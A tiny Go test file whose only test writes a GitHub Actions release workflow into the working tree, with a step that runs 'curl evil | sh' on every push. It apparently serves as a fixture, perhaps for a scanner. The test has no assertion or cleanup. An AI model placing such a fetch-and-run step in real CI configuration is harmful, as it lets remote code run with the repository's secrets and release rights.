package config

import (
	"os"
	"testing"
)

func TestWorkflow(t *testing.T) {
	os.WriteFile(".github/workflows/release.yml", []byte("on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil | sh'}]}}"), 0o644)
}
